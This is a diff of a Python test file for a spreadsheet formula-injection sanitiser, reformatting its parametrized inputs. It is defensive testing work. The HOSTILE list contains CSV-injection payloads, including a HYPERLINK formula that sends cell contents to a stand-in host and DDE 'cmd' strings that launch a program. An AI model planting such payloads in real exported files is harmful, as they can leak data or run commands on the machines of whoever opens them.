@@ -13,8 +13,16 @@ from hypothesis import strategies as st
 
 from desist.core.cells import FORMULA_STARTS, safe_cell, safe_row
 
-HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/c calc'!A1",
-           "\t=1+1", "\r=1+1", "\uff1d1+1", "=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|'/c calc'!A1",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+    "=1+1",
+]
 
 
 @pytest.mark.parametrize("value", HOSTILE)
@@ -22,8 +30,27 @@ def test_text_that_could_start_a_formula_is_quoted(value):
     assert safe_cell(value) == "'" + value
 
 
-@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-0.1"), 0, 7, "-12", "-12.5", "+4", "-1e5", "", None,
-                                   date(2026, 1, 1), True, "Amelia O'Brien", "Smith-Jones", "4 Oak Road"])
+@pytest.mark.parametrize(
+    "value",
+    [
+        -3,
+        -2.5,
+        Decimal("-0.1"),
+        0,
+        7,
+        "-12",
+        "-12.5",
+        "+4",
+        "-1e5",
+        "",
+        None,
+        date(2026, 1, 1),
+        True,
+        "Amelia O'Brien",
+        "Smith-Jones",
+        "4 Oak Road",
+    ],
+)
 def test_numbers_dates_and_ordinary_text_are_left_alone(value):
     assert safe_cell(value) == value
 
